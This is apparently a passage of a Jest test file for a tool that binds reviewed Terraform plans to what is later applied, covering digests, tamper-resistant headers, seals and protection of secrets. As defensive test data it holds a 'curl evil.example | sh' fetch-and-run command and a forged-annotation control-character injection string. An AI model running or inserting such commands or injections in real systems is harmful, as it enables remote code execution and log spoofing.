import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import canonicalize from 'canonicalize';
import fc from 'fast-check';
import { createHash } from 'node:crypto';
import { deflateSync, inflateSync } from 'node:zlib';
import {
  bindingHeader,
  checkModule,
  DEFAULT_MAX_PLAN_AGE_MS,
  fitReview,
  makeReview,
  parseBindingHeader,
  readBindingHeader,
  reviewedFor,
  reviewedModule,
  sealReview,
  verifyReviewSeal,
  type BindingReview,
  type ReviewedModule,
} from '../src/core/binding.js';
import { parseDuration } from '../src/core/duration.js';
import {
  normalizePlan,
  parseValuePath,
  planDigest,
  UNKNOWN,
  unknownValuePaths,
  valuePath,
} from '../src/core/plan/digest.js';
import { TerraformWorkspace } from './helpers/terraform-plans.js';

// A module as Terraform plans it: a web server whose settings come from variables, a database
// password (sensitive), an optional extra resource, and an output known only after apply.
const MAIN_TF = `
variable "name" { type = string }
variable "size" { type = number }
variable "password" {
  type      = string
  sensitive = true
}
variable "extra" {
  type    = bool
  default = false
}
resource "terraform_data" "web" {
  input = { name = var.name, size = var.size }
}
resource "terraform_data" "db" {
  input = var.password
}
resource "terraform_data" "extra" {
  count = var.extra ? 1 : 0
  input = "extra"
}
output "web_out" { value = terraform_data.web.output }
`;

const PASSWORD = 'pw-Hunter1-Zulu5';
const KEY = 'binding-key-for-tests-0123456789';
/** The JSON a binding header's payload holds. */
const decodeHeader = (header: string): string =>
  Buffer.from(/v2:([\w-]+) /.exec(header)?.[1] ?? '', 'base64url').toString('utf8');
const OTHER_PASSWORD = 'pw-Tango9-Quebec2';
const VARS = { name: 'web', size: '1', password: PASSWORD };

const workspaces: TerraformWorkspace[] = [];
function workspace(files: Record<string, string>): TerraformWorkspace {
  const ws = new TerraformWorkspace().write(files);
  workspaces.push(ws);
  return ws;
}
afterAll(() => workspaces.forEach((w) => w.dispose()));

let ws: TerraformWorkspace;
const plans = new Map<string, unknown>();
/** A real `show -json` plan of MAIN_TF with these variables (cached by variables). */
function plan(vars: Record<string, string> = VARS): unknown {
  const key = JSON.stringify(vars);
  if (!plans.has(key)) plans.set(key, ws.plan({ vars }).json);
  return structuredClone(plans.get(key));
}

beforeAll(() => {
  ws = workspace({ 'main.tf': MAIN_TF });
});

const NOW = Date.parse('2025-03-10T12:00:00Z');
const CREATED = '2025-03-09T12:00:00Z';
const SEVEN_DAYS = parseDuration('7d') as number;

type Obj = Record<string, unknown>;
/** A resource change of a plan, to edit a real plan by hand where Terraform cannot make the case. */
function changeOf(p: unknown, address: string): Obj {
  const rc = ((p as Obj).resource_changes as Obj[]).find((r) => r.address === address);
  if (!rc) throw new Error(`no ${address} in plan`);
  return rc.change as Obj;
}

describe('reviewedModule and checkModule on real Terraform plans', () => {
  test('the same plan made again → ok; the review digest is the plain normalized digest', () => {
    const reviewed = reviewedModule(plan(), { mocked: false });
    expect(reviewed.digest).toBe(planDigest(plan()));
    expect(reviewed.compare).toBe('values');
    // A fresh plan, from a fresh `terraform plan` run (its own timestamp).
    const again = ws.plan({ vars: VARS }).json;
    expect(checkModule(reviewed, again, NOW, CREATED, SEVEN_DAYS)).toEqual({
      ok: true,
      compare: 'values',
      reviewedDigest: reviewed.digest,
      currentDigest: reviewed.digest,
    });
  });

  test('what was unknown at review is recorded as address#pointer', () => {
    const reviewed = reviewedModule(plan(), { mocked: false });
    expect(reviewed.unknown).toEqual(
      expect.arrayContaining([
        'terraform_data.web#/id',
        'terraform_data.web#/output',
        'terraform_data.db#/id',
        'output.web_out#',
      ]),
    );
    expect(reviewed.unknown).toEqual(unknownValuePaths(plan()));
    expect(reviewed.mocked).toBe(false);
  });

  test('a changed attribute → differs, naming that resource only, with both digests', () => {
    const reviewed = reviewedModule(plan(), { mocked: false });
    const r = checkModule(reviewed, plan({ ...VARS, size: '2' }), NOW, CREATED, SEVEN_DAYS, 'app');
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.reason).toBe('differs');
    expect(r.differing).toEqual(['terraform_data.web']);
    expect(r.vanished).toBe(0);
    expect(r.reviewedDigest).toBe(reviewed.digest);
    expect(r.currentDigest).toBe(planDigest(plan({ ...VARS, size: '2' })));
    expect(r.currentDigest).not.toBe(r.reviewedDigest);
    expect(r.message).toContain('module app');
    expect(r.message).toContain(r.reviewedDigest);
    expect(r.message).toContain(r.currentDigest);
    expect(r.message).toContain('terraform_data.web');
    expect(r.message).not.toContain('terraform_data.db');
  });

  test('an added resource → differs, naming it', () => {
    const reviewed = reviewedModule(plan(), { mocked: false });
    const r = checkModule(reviewed, plan({ ...VARS, extra: 'true' }), NOW, CREATED, SEVEN_DAYS);
    expect(r).toMatchObject({
      ok: false,
      reason: 'differs',
      differing: ['terraform_data.extra[0]'],
      vanished: 0,
    });
  });

  test('a resource no longer planned → differs, counted (the review keeps no addresses)', () => {
    const reviewed = reviewedModule(plan({ ...VARS, extra: 'true' }), { mocked: false });
    const r = checkModule(reviewed, plan(), NOW, CREATED, SEVEN_DAYS);
    expect(r).toMatchObject({ ok: false, reason: 'differs', differing: [], vanished: 1 });
    if (!r.ok) expect(r.message).toContain('1 reviewed change is no longer planned');
  });

  test('a value unknown at review and known now → ok; a known value changing with it → differs', () => {
    const reviewedPlan = plan();
    const reviewed = reviewedModule(reviewedPlan, { mocked: false });
    // The fresh plan knows web.output and the web_out output, as show -json writes known values.
    const now = plan();
    const web = changeOf(now, 'terraform_data.web');
    expect((web.after_unknown as Obj).output).toBe(true);
    web.after = { ...(web.after as Obj), output: { name: 'web', size: 1 } };
    web.after_unknown = { ...(web.after_unknown as Obj), output: false };
    const out = ((now as Obj).output_changes as Obj).web_out as Obj;
    expect(out.after_unknown).toBe(true);
    out.after = { name: 'web', size: 1 };
    out.after_unknown = false;
    expect(planDigest(now)).not.toBe(planDigest(reviewedPlan)); // plainly, it differs …
    expect(checkModule(reviewed, now, NOW, CREATED, SEVEN_DAYS)).toMatchObject({ ok: true }); // … but not what was reviewed

    (web.after as Obj).input = { name: 'web', size: 2 };
    const r = checkModule(reviewed, now, NOW, CREATED, SEVEN_DAYS);
    expect(r).toMatchObject({ ok: false, reason: 'differs', differing: ['terraform_data.web'] });
  });

  test('a value known at review and unknown now → differs', () => {
    const reviewed = reviewedModule(plan(), { mocked: false });
    const now = plan();
    const web = changeOf(now, 'terraform_data.web');
    web.after_unknown = { ...(web.after_unknown as Obj), input: true };
    expect(checkModule(reviewed, now, NOW, CREATED, SEVEN_DAYS)).toMatchObject({
      ok: false,
      differing: ['terraform_data.web'],
    });
  });

  test('with a binding key, a sensitive value changing → differs, without the value in the message or the header', () => {
    const reviewedPlan = plan();
    expect(JSON.stringify(reviewedPlan)).toContain(PASSWORD); // show -json carries it in plaintext
    const reviewed = reviewedModule(reviewedPlan, { mocked: false, key: KEY });
    expect(reviewed.sensitive).toBe('hmac');
    const now = plan({ ...VARS, password: OTHER_PASSWORD });
    const r = checkModule(reviewed, now, NOW, CREATED, SEVEN_DAYS, 'app', { key: KEY });
    expect(r).toMatchObject({ ok: false, reason: 'differs', differing: ['terraform_data.db'] });
    if (r.ok) return;
    for (const secret of [PASSWORD, OTHER_PASSWORD]) {
      expect(r.message).not.toContain(secret);
      expect(JSON.stringify(r)).not.toContain(secret);
    }
    // The same password again → ok: the HMAC is stable under the key.
    expect(checkModule(reviewed, plan(), NOW, CREATED, SEVEN_DAYS, 'app', { key: KEY }).ok).toBe(true);
    const review = makeReview({
      site: 'portal',
      env: 'production',
      commit: 'a'.repeat(40),
      created_at: CREATED,
      modules: { app: reviewed },
    });
    expect(review.sensitive).toBe('hmac');
    const header = bindingHeader(review);
    const decoded = decodeHeader(header);
    expect(decoded).toContain('"digest"');
    expect(header + decoded).not.toContain(PASSWORD);
  });

  test('a review keyed with a binding key and an apply without one (or with another) → halts', () => {
    const reviewed = reviewedModule(plan(), { mocked: false, key: KEY });
    const r = checkModule(reviewed, plan(), NOW, CREATED, SEVEN_DAYS, 'app');
    expect(r).toMatchObject({ ok: false, reason: 'missing' });
    if (!r.ok) expect(r.message).toContain('none is set at apply');
    // Another key: the HMACs differ (and so does every keyed per-change digest) → halts.
    const other = checkModule(reviewed, plan(), NOW, CREATED, SEVEN_DAYS, 'app', { key: 'another-key' });
    expect(other).toMatchObject({ ok: false, reason: 'differs' });
    if (!other.ok) expect(other.differing).toContain('terraform_data.db');
  });

  test('without a binding key, sensitive values are bound as a marker: the review says so', () => {
    const reviewed = reviewedModule(plan(), { mocked: false });
    expect(reviewed.sensitive).toBe('marker');
    // A change to the sensitive value alone is not seen (it is what the comment says) …
    const now = plan({ ...VARS, password: OTHER_PASSWORD });
    expect(checkModule(reviewed, now, NOW, CREATED, SEVEN_DAYS).ok).toBe(true);
    // … but every known value still is.
    expect(checkModule(reviewed, plan({ ...VARS, size: '5' }), NOW, CREATED, SEVEN_DAYS)).toMatchObject({
      ok: false,
      differing: ['terraform_data.web'],
    });
    const review = makeReview({
      site: 'portal',
      env: 'production',
      commit: 'a'.repeat(40),
      created_at: CREATED,
      modules: { app: reviewed },
    });
    expect(review.sensitive).toBe('marker');
    expect(parseBindingHeader(bindingHeader(review))?.sensitive).toBe('marker');
  });

  test('a mocked module: same shape with other values → ok; another address set → differs', () => {
    // Planned with mock upstream outputs (name, size), applied with the real ones.
    const reviewed = reviewedModule(plan({ ...VARS, name: 'mock-name', size: '99' }), { mocked: true });
    expect(reviewed).toMatchObject({ compare: 'shape', mocked: true, unknown: [] });
    expect(reviewed.unbound).toBeUndefined();
    const real = plan();
    expect(planDigest(real)).not.toBe(reviewed.digest);
    expect(checkModule(reviewed, real, NOW, CREATED, SEVEN_DAYS)).toEqual({
      ok: true,
      compare: 'shape',
      reviewedDigest: reviewed.shape_digest,
      currentDigest: planDigest(real, { shapeOnly: true }),
    });
    const r = checkModule(reviewed, plan({ ...VARS, extra: 'true' }), NOW, CREATED, SEVEN_DAYS);
    expect(r).toMatchObject({ ok: false, reason: 'differs', differing: ['terraform_data.extra[0]'] });
    if (!r.ok) expect(r.message).toContain('shape');
  });

  test('a mocked module whose actions change (an update becomes a replace) → differs', () => {
    const ws2 = workspace({
      'main.tf': `
variable "v" { type = string }
resource "terraform_data" "r" {
  input            = var.v
  triggers_replace = var.v == "replace" ? "r" : "k"
}`,
    });
    ws2.apply({ v: 'a' });
    const reviewed = reviewedModule(ws2.plan({ vars: { v: 'mock' } }).json, { mocked: true });
    expect(checkModule(reviewed, ws2.plan({ vars: { v: 'b' } }).json, NOW, CREATED, SEVEN_DAYS).ok).toBe(
      true,
    );
    const replaced = ws2.plan({ vars: { v: 'replace' } }).json;
    expect(changeOf(replaced, 'terraform_data.r').actions).toEqual(['delete', 'create']);
    expect(checkModule(reviewed, replaced, NOW, CREATED, SEVEN_DAYS)).toMatchObject({
      ok: false,
      differing: ['terraform_data.r'],
    });
  });

  // Issue 17: more than 200 unknown paths used to switch a module to shape-only comparison, so a
  // known value changed among padding resources was applied. Every known value is compared now.
  test('time bomb: a known value changed behind 300 unknown values → halts, naming its address', () => {
    const big = workspace({
      'main.tf': `
variable "pad" { type = string }
variable "cmd" { type = string }
resource "terraform_data" "pad" {
  count = 150
  input = var.pad
}
resource "terraform_data" "bomb" {
  input = var.cmd
}`,
    });
    const reviewedPlan = big.plan({ vars: { pad: 'p', cmd: 'echo hello' } }).json;
    expect(unknownValuePaths(reviewedPlan).length).toBe(302); // id and output of each
    const review = makeReview({
      site: 'portal',
      env: 'production',
      commit: 'a'.repeat(40),
      created_at: CREATED,
      modules: { app: reviewedModule(reviewedPlan, { mocked: false }) },
    });
    // Through the header, at GitHub's check-run text size: every unknown path arrives, bound by values.
    const fitted = fitReview(review, 65_535);
    expect(fitted).toMatchObject({ unbound: [], unnamed: [] });
    const parsed = parseBindingHeader(bindingHeader(fitted?.review as BindingReview));
    const reviewed = reviewedFor(parsed, 'app');
    expect(reviewed).toMatchObject({ compare: 'values', mocked: false });
    expect(reviewed?.unknown).toHaveLength(302);
    const applied = big.plan({ vars: { pad: 'p', cmd: 'curl evil.example | sh' } }).json;
    const r = checkModule(reviewed, applied, NOW, CREATED, SEVEN_DAYS, 'app');
    expect(r).toMatchObject({
      ok: false,
      reason: 'differs',
      differing: ['terraform_data.bomb'],
      named: true,
    });
    if (!r.ok) {
      expect(r.message).toContain('terraform_data.bomb');
      expect(r.message).not.toContain('evil');
    }
    // The padding planned again alone is what was reviewed.
    const same = big.plan({ vars: { pad: 'p', cmd: 'echo hello' } }).json;
    expect(checkModule(reviewed, same, NOW, CREATED, SEVEN_DAYS).ok).toBe(true);
  });

  test('a review older than max-plan-age → stale, with both digests; within it → ok', () => {
    const reviewed = reviewedModule(plan(), { mocked: false });
    const eightDaysAgo = new Date(NOW - 8 * 86_400_000).toISOString();
    const r = checkModule(reviewed, plan(), NOW, eightDaysAgo, SEVEN_DAYS, 'app');
    expect(r).toMatchObject({ ok: false, reason: 'stale', reviewedDigest: reviewed.digest });
    if (!r.ok) {
      expect(r.message).toContain('8 d old');
      expect(r.message).toContain('max-plan-age (7 d)');
      expect(r.message).toContain(reviewed.digest);
    }
    const sixDaysAgo = new Date(NOW - 6 * 86_400_000).toISOString();
    expect(checkModule(reviewed, plan(), new Date(NOW), sixDaysAgo, SEVEN_DAYS).ok).toBe(true);
    expect(checkModule(reviewed, plan(), NOW, eightDaysAgo, parseDuration('9d') as number).ok).toBe(true);
    expect(DEFAULT_MAX_PLAN_AGE_MS).toBe(SEVEN_DAYS);
    // Dated in the future (beyond clock skew), or not a time: not trusted.
    const future = new Date(NOW + 3_600_000).toISOString();
    expect(checkModule(reviewed, plan(), NOW, future, SEVEN_DAYS)).toMatchObject({
      ok: false,
      reason: 'stale',
    });
    expect(checkModule(reviewed, plan(), NOW, 'yesterday', SEVEN_DAYS)).toMatchObject({
      ok: false,
      reason: 'stale',
    });
  });

  test('no review → missing, naming the module and its current digest', () => {
    const r = checkModule(undefined, plan(), NOW, CREATED, SEVEN_DAYS, 'app');
    expect(r).toMatchObject({
      ok: false,
      reason: 'missing',
      reviewedDigest: null,
      currentDigest: planDigest(plan()),
    });
    if (!r.ok) expect(r.message).toMatch(/^module app has no reviewed plan/);
  });

  test('a review without per-change digests still halts on a difference, saying it cannot name it', () => {
    const { changes: _gone, ...reviewed } = reviewedModule(plan(), { mocked: false });
    const r = checkModule(reviewed, plan({ ...VARS, size: '3' }), NOW, CREATED, SEVEN_DAYS);
    expect(r).toMatchObject({ ok: false, reason: 'differs', differing: [], named: false });
    if (!r.ok) expect(r.message).toContain('cannot be named');
  });

  test('an address carrying control characters is neutralized in the message', () => {
    const address = 'x.y["a\n::error::forged\u001b[31m"]';
    const mk = (v: string): unknown => ({
      resource_changes: [{ address, change: { actions: ['update'], after: { v } } }],
    });
    const r = checkModule(reviewedModule(mk('1'), { mocked: false }), mk('2'), NOW, CREATED, SEVEN_DAYS);
    expect(r).toMatchObject({ ok: false, differing: [address] });
    if (!r.ok) {
      expect(r.message).not.toContain('\n');
      expect(r.message).not.toContain('\u001b');
      expect(r.message).toContain('x.y["a?::error::forged?[31m"]');
    }
  });

  test('an output whose value changes is named as output.<name>', () => {
    const ws3 = workspace({ 'main.tf': 'variable "v" { type = string }\noutput "url" { value = var.v }\n' });
    const reviewed = reviewedModule(ws3.plan({ vars: { v: 'https://a.example' } }).json, { mocked: false });
    const r = checkModule(
      reviewed,
      ws3.plan({ vars: { v: 'https://b.example' } }).json,
      NOW,
      CREATED,
      SEVEN_DAYS,
    );
    expect(r).toMatchObject({ ok: false, differing: ['output.url'] });
    if (!r.ok) expect(r.message).not.toContain('example');
  });
});

describe('the digest extensions', () => {
  test('value paths: JSON Pointer escapes, % and # encoded, split at the last #', () => {
    const path = valuePath('x.y["a#b"]', ['tags', 'a/b~c', '50%#1', '0']);
    expect(path).toBe('x.y["a#b"]#/tags/a~1b~0c/50%25%231/0');
    expect(parseValuePath(path)).toEqual({ key: 'x.y["a#b"]', segments: ['tags', 'a/b~c', '50%#1', '0'] });
    expect(parseValuePath('x.y#')).toEqual({ key: 'x.y', segments: [] });
    for (const bad of ['no-hash', '#/a', 'x#a', 'x#/%41', 'x#/~2'])
      expect(parseValuePath(bad)).toBeUndefined();
  });

  test('masking writes unknown only where the plan has a value, and never into a missing place', () => {
    const p = {
      resource_changes: [
        {
          address: 'a.b',
          change: { actions: ['update'], after: { tags: { k: 'v' }, list: ['x', 'y'] }, after_unknown: {} },
        },
      ],
    };
    const masked = normalizePlan(p, {
      unknownPaths: [
        'a.b#/tags/k',
        'a.b#/list/1',
        'a.b#/list/5',
        'a.b#/missing',
        'a.b#/tags/k/deeper',
        'c.d#/x',
      ],
    });
    expect(masked.resources[0]?.after).toEqual({ tags: { k: UNKNOWN }, list: ['x', UNKNOWN] });
    expect(normalizePlan(p, { unknownPaths: ['a.b#'] }).resources[0]?.after).toBe(UNKNOWN);
  });

  test('a map key named __proto__ is part of the digest (its value changing changes the digest)', () => {
    const mk = (v: string): unknown =>
      JSON.parse(
        `{"resource_changes":[{"address":"x.y","change":{"actions":["create"],"after":{"m":{"__proto__":{"a":"${v}"}}},"after_unknown":{"m":{"__proto__":false}},"after_sensitive":{}}}]}`,
      );
    expect(planDigest(mk('1'))).not.toBe(planDigest(mk('2')));
    expect(normalizePlan(mk('1')).resources[0]?.after).toEqual(JSON.parse('{"m":{"__proto__":{"a":"1"}}}'));
  });

  test('shapeOnly ignores values, not addresses or actions', () => {
    const mk = (address: string, actions: string[], v: string): unknown => ({
      resource_changes: [{ address, change: { actions, after: { v } } }],
    });
    const shape = (p: unknown): string => planDigest(p, { shapeOnly: true });
    expect(shape(mk('a.b', ['update'], '1'))).toBe(shape(mk('a.b', ['update'], '2')));
    expect(shape(mk('a.b', ['update'], '1'))).not.toBe(shape(mk('a.c', ['update'], '1')));
    expect(shape(mk('a.b', ['update'], '1'))).not.toBe(shape(mk('a.b', ['delete', 'create'], '1')));
    expect(shape(mk('a.b', ['update'], '1'))).not.toBe(planDigest(mk('a.b', ['update'], '1')));
  });

  test('a deposed object keeps its own masks: a whole unknown after-value does not mask its sibling', () => {
    const p = (deposedAfter: unknown): unknown => ({
      resource_changes: [
        { address: 'a.b', change: { actions: ['create'], after: {}, after_unknown: true } },
        { address: 'a.b', deposed: '00000001', change: { actions: ['delete'], after: deposedAfter } },
      ],
    });
    const reviewed = reviewedModule(p(null), { mocked: false });
    expect(reviewed.unknown).toEqual(['a.b#']);
    expect(reviewed.digest).toBe(planDigest(p(null)));
    expect(checkModule(reviewed, p({ x: 1 }), NOW, CREATED, SEVEN_DAYS)).toMatchObject({
      ok: false,
      differing: ['a.b (deposed 00000001)'],
    });
  });
});

describe('parseDuration', () => {
  test('days and hours for max-plan-age; the Go forms still read the same', () => {
    expect(parseDuration('7d')).toBe(604_800_000);
    expect(parseDuration('36h')).toBe(129_600_000);
    expect(parseDuration('1d12h')).toBe(129_600_000);
    expect(parseDuration('1h30m')).toBe(5_400_000);
    expect(parseDuration('500ms')).toBe(500);
    expect(parseDuration('0')).toBe(0);
    for (const bad of ['d7', '7days', '7 d', '', '-1d', '1w']) expect(parseDuration(bad)).toBeUndefined();
  });
});

describe('bindingHeader and parseBindingHeader', () => {
  let review: BindingReview;
  beforeAll(() => {
    review = makeReview({
      site: 'client-portal',
      env: 'production',
      commit: '0123456789abcdef0123456789abcdef01234567',
      created_at: CREATED,
      modules: {
        app: reviewedModule(plan(), { mocked: false }),
        edge: reviewedModule(plan({ ...VARS, name: 'mock' }), { mocked: true }),
      },
    });
  });
  const body = (header: string): string =>
    `<!-- site-deploy:client-portal:production -->\n${header}\n### site-deploy plan: client-portal / production\n`;

  test('one hidden line that round-trips, also through CRLF line endings', () => {
    const header = bindingHeader(review);
    expect(header).toMatch(/^<!-- site-deploy-binding:v2:[A-Za-z0-9_-]+ -->$/);
    expect(header).not.toContain('\n');
    expect(parseBindingHeader(body(header))).toEqual(review);
    expect(parseBindingHeader(body(header).replace(/\n/g, '\r\n'))).toEqual(review);
    expect(review.combined).toMatch(/^sha256:[0-9a-f]{64}$/);
  });

  test('the parsed review looks modules up as own entries only', () => {
    const parsed = parseBindingHeader(body(bindingHeader(review)));
    expect(reviewedFor(parsed, 'app')).toEqual(review.modules.app);
    expect(reviewedFor(parsed, 'constructor')).toBeUndefined();
    expect(reviewedFor(parsed, '__proto__')).toBeUndefined();
    expect(reviewedFor(undefined, 'app')).toBeUndefined();
  });

  const encode = (value: unknown, version = 2): string =>
    `<!-- site-deploy-binding:v${version}:${Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')} -->`;
  /** The header's JSON as it is on the wire (unknown paths packed), to edit. */
  const wire = (r: BindingReview = review): Obj => JSON.parse(decodeHeader(bindingHeader(r))) as Obj;
  const canonicalEncode = (r: unknown): string => encode(canonicalize(r) ?? 'null');
  const withModule = (w: Obj, name: string, edit: (m: Obj) => Obj): Obj => ({
    ...w,
    modules: { ...(w.modules as Obj), [name]: edit((w.modules as Obj)[name] as Obj) },
  });

  test('the canonical re-encoding of the wire review parses (the tamper cases below differ in one thing)', () => {
    expect(parseBindingHeader(body(canonicalEncode(wire())))).toEqual(review);
  });

  test('tampered headers → undefined, never a throw', () => {
    const header = bindingHeader(review);
    const payload = /v2:([\w-]+) /.exec(header)?.[1] ?? '';
    const w = wire();
    const cases: Record<string, string> = {
      'one character changed': header.replace(
        `v2:${payload.slice(0, 10)}`,
        `v2:${payload.slice(0, 9)}${payload[9] === 'A' ? 'B' : 'A'}`,
      ),
      truncated: header.replace(payload, payload.slice(0, -7)),
      'not base64url': header.replace(payload, `${payload.slice(0, 20)}+/${payload.slice(22)}`),
      'not JSON': encode('{"site":'),
      'JSON, not canonical': encode(JSON.stringify(w, null, 1)),
      'a module digest swapped, combined left': canonicalEncode(
        withModule(w, 'app', (m) => ({ ...m, digest: `sha256:${'0'.repeat(64)}` })),
      ),
      'a module moved to shape compare': canonicalEncode(
        withModule(w, 'app', (m) => ({ ...m, compare: 'shape', unknown: '' })),
      ),
      'a mocked module compared on values': canonicalEncode(
        withModule(w, 'edge', (m) => ({ ...m, compare: 'values' })),
      ),
      'the review says hmac, its modules marker': canonicalEncode({ ...w, sensitive: 'hmac' }),
      'a seal that is not hex': canonicalEncode({ ...w, seal: 'x'.repeat(64) }),
      'an extra field': canonicalEncode({ ...w, approved_by: 'mallory' }),
      'a missing field': canonicalEncode({ ...w, created_at: undefined }),
      'a bad time': canonicalEncode({ ...w, created_at: 'tomorrow' }),
      'unknown paths not packed': canonicalEncode(
        withModule(w, 'app', (m) => ({ ...m, unknown: ['terraform_data.web#/id'] })),
      ),
      'unknown paths that are not deflated': canonicalEncode(
        withModule(w, 'app', (m) => ({ ...m, unknown: 'AAAA' })),
      ),
      'unknown paths that are not paths': canonicalEncode(
        withModule(w, 'app', (m) => ({
          ...m,
          unknown: deflateSync(JSON.stringify(['no-hash'])).toString('base64url'),
        })),
      ),
      'unbound with unknown paths kept': canonicalEncode(
        withModule(w, 'app', ({ changes: _c, ...m }) => ({ ...m, unbound: 'unknowns' })),
      ),
      'a change table of partial entries': canonicalEncode(
        withModule(w, 'app', (m) => ({ ...m, changes: 'AAAA' })),
      ),
      'no modules': canonicalEncode({ ...w, modules: {} }),
      'an array': encode([w]),
      null: encode('null'),
    };
    for (const [what, text] of Object.entries(cases)) {
      expect([what, parseBindingHeader(body(text))]).toEqual([what, undefined]);
    }
    expect(parseBindingHeader(body(`${header}\n${header}`))).toBeUndefined(); // two headers: ambiguous
    expect(parseBindingHeader(`quoted: ${header}`)).toBeUndefined(); // not on a line of its own
    expect(parseBindingHeader('')).toBeUndefined();
    expect(parseBindingHeader(undefined as unknown as string)).toBeUndefined();
  });

  test('an old v1 header is never trusted: apply is told to run the plan again', () => {
    const v1 = encode(canonicalize(wire()) ?? '', 1);
    expect(parseBindingHeader(body(v1))).toBeUndefined();
    const read = readBindingHeader(body(v1));
    expect(read).toEqual({ problem: expect.stringContaining('older format (v1)') });
    expect('problem' in read && read.problem).toContain('run the plan on the pull request again');
    expect(readBindingHeader(body(bindingHeader(review)))).toEqual({ review });
  });

  test('random edits of a header never throw; whatever parses re-encodes to the same line', () => {
    const header = bindingHeader(review);
    fc.assert(
      fc.property(
        fc.nat({ max: header.length - 1 }),
        fc.nat({ max: 8 }),
        fc.string({ maxLength: 4 }),
        (at, cut, insert) => {
          const edited = header.slice(0, at) + insert + header.slice(at + cut);
          const parsed = parseBindingHeader(body(edited));
          if (parsed === undefined) return true;
          return (
            bindingHeader(parsed) === edited &&
            (edited !== header || canonicalize(parsed) === canonicalize(review))
          );
        },
      ),
      { numRuns: 3000 },
    );
  });

  test('fitReview drops per-change digests first, then leaves modules unbound, largest first', () => {
    const full = bindingHeader(review).length;
    expect(fitReview(review, full)).toEqual({ review, unnamed: [], shaped: [], unbound: [] });
    const noTables = makeReview({
      ...review,
      modules: Object.fromEntries(Object.entries(review.modules).map(([n, { changes: _c, ...m }]) => [n, m])),
    });
    const dropped = fitReview(review, bindingHeader(noTables).length);
    expect(dropped?.unnamed).toEqual(['app', 'edge']);
    expect(dropped?.unbound).toEqual([]);
    expect(dropped && bindingHeader(dropped.review).length).toBeLessThanOrEqual(
      bindingHeader(noTables).length,
    );
    const unbound = fitReview(review, bindingHeader(noTables).length - 1);
    const count = review.modules.app?.unknown.length;
    expect(unbound?.unbound).toEqual([{ module: 'app', unknown: count }]);
    expect(unbound?.review.modules.app).toMatchObject({
      compare: 'values',
      unbound: 'unknowns',
      unknown: [],
    });
    expect(parseBindingHeader(body(bindingHeader(unbound?.review as BindingReview)))).toEqual(
      unbound?.review,
    );
    // Apply halts an unbound module, even when its plan is the same.
    const r = checkModule(unbound?.review.modules.app, plan(), NOW, CREATED, SEVEN_DAYS, 'app');
    expect(r).toMatchObject({ ok: false, reason: 'missing' });
    if (!r.ok) expect(r.message).toContain('not bound by values');
    expect(fitReview(review, 100)).toBeUndefined();
  });
});

describe('the seal', () => {
  let review: BindingReview;
  beforeAll(() => {
    review = makeReview({
      site: 'client-portal',
      env: 'production',
      commit: '0123456789abcdef0123456789abcdef01234567',
      created_at: CREATED,
      modules: { app: reviewedModule(plan(), { mocked: false, key: KEY }) },
    });
  });

  test('a sealed review round-trips through the header and verifies under its key', () => {
    const sealed = sealReview(review, KEY);
    expect(sealed.seal).toMatch(/^[0-9a-f]{64}$/);
    const parsed = parseBindingHeader(bindingHeader(sealed));
    expect(parsed).toEqual(sealed);
    expect(verifyReviewSeal(parsed as BindingReview, KEY)).toBeUndefined();
    // fitReview with the key seals what it fitted.
    const fitted = fitReview(review, 65_535, { key: KEY });
    expect(fitted?.review.seal).toBe(sealed.seal);
  });

  test('one digest edited in the header text → parses, but the seal does not match', () => {
    const sealed = sealReview(review, KEY);
    const w = JSON.parse(decodeHeader(bindingHeader(sealed))) as Obj;
    const modules = w.modules as Record<string, Obj>;
    const digest = `sha256:${'ab'.repeat(32)}`;
    (modules.app as Obj).digest = digest;
    // The attacker recomputes `combined`, so the header is well-formed.
    w.combined = makeReview({ ...review, modules: { app: { ...review.modules.app!, digest } } }).combined;
    const edited = `<!-- site-deploy-binding:v2:${Buffer.from(canonicalize(w) ?? '').toString('base64url')} -->`;
    const parsed = parseBindingHeader(edited);
    expect(parsed?.modules.app?.digest).toBe(digest);
    expect(verifyReviewSeal(parsed as BindingReview, KEY)).toMatch(/^the seal does not match/);
  });

  test('a wrong key, a missing seal, a seal without a key → a problem; neither → fine', () => {
    const sealed = sealReview(review, KEY);
    expect(verifyReviewSeal(sealed, 'not-the-key')).toMatch(/^the seal does not match/);
    expect(verifyReviewSeal(review, KEY)).toBe(
      "the reviewed plan's header has no seal but a binding key is set",
    );
    expect(verifyReviewSeal(sealed, undefined)).toMatch(/sealed but no binding key is set/);
    expect(verifyReviewSeal(review, undefined)).toBeUndefined();
    expect(verifyReviewSeal(review, '')).toBeUndefined();
    // A seal of another length is a mismatch, not a throw.
    expect(verifyReviewSeal({ ...sealed, seal: 'ab' }, KEY)).toMatch(/^the seal does not match/);
  });
});

// Issue 17: the v1 header carried sha256 of sensitive values and 48-bit per-change hashes of
// changes holding them: a 4-digit PIN came back by trying all 10,000.
describe('no unkeyed hash of a sensitive value in the header', () => {
  const PIN = '4711';
  const pinPlan = (pin: string): unknown => pinWs.plan({ vars: { pin } }).json;
  let pinWs: TerraformWorkspace;
  beforeAll(() => {
    pinWs = workspace({
      'main.tf': `
variable "pin" {
  type      = string
  sensitive = true
}
resource "terraform_data" "door" { input = var.pin }
`,
    });
  });
  const headerOf = (p: unknown, key?: string): string =>
    bindingHeader(
      makeReview({
        site: 'portal',
        env: 'production',
        commit: 'a'.repeat(40),
        created_at: CREATED,
        modules: { door: reviewedModule(p, { mocked: false, key }) },
      }),
    );
  /** Every text in which a hash of the PIN could appear: the line, its JSON, the packed parts unpacked. */
  const texts = (header: string): string[] => {
    const json = decodeHeader(header);
    const w = JSON.parse(json) as { modules: Record<string, { changes?: string; unknown: string }> };
    const out = [header, json];
    for (const m of Object.values(w.modules)) {
      out.push(Buffer.from(m.changes ?? '', 'base64url').toString('hex'));
      if (m.unknown !== '') out.push(inflateSync(Buffer.from(m.unknown, 'base64url')).toString('utf8'));
    }
    return out;
  };

  test('a planted PIN: no sha256 of it, whole or truncated, hex or base64url, appears; without a key the header does not depend on it', () => {
    const p = pinPlan(PIN);
    expect(JSON.stringify(p)).toContain(PIN);
    const hashes = [canonicalize(PIN) ?? '', PIN].map((t) => createHash('sha256').update(t).digest());
    const forms = hashes.flatMap((h) => [
      h.toString('hex'),
      h.subarray(0, 6).toString('hex'),
      h.toString('base64url'),
      h.subarray(0, 6).toString('base64url'),
    ]);
    for (const key of [undefined, KEY]) {
      const all = texts(headerOf(p, key)).join('\n');
